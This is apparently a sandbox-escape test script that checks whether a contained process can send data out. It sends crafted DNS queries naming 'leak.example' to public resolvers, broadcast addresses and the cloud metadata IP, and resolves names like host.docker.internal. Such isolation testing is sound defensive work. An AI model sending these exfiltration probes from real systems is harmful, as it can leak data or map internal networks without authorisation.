# claim: sends out what it knows by UDP and name look-ups
# expect: ok
import socket

from attack import T, attempt, escaped

for host, port in (("127.0.0.1", T["udp"]), ("localhost", T["udp"])):
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello", (host, port))
    except OSError as error:
        print("stopped:", host, port, error)
for host, port in (("1.1.1.1", 53), ("8.8.8.8", 53), ("224.0.0.251", 5353), ("10.255.255.255", 9),
                   ("255.255.255.255", 67), ("169.254.169.254", 53)):  # fmt: skip

    def send(host=host, port=port):
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        one.setblocking(False)
        return one.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\4leak\7example\0\0\1\0\1", (host, port))

    attempt(f"{host} {port}", send)
for name in ("example.com", "leak.example.org", "_gateway", "host.docker.internal"):
    try:
        escaped(f"{name} is {socket.getaddrinfo(name, 80)[0][4]}")
    except OSError as error:
        print("stopped:", name, error)
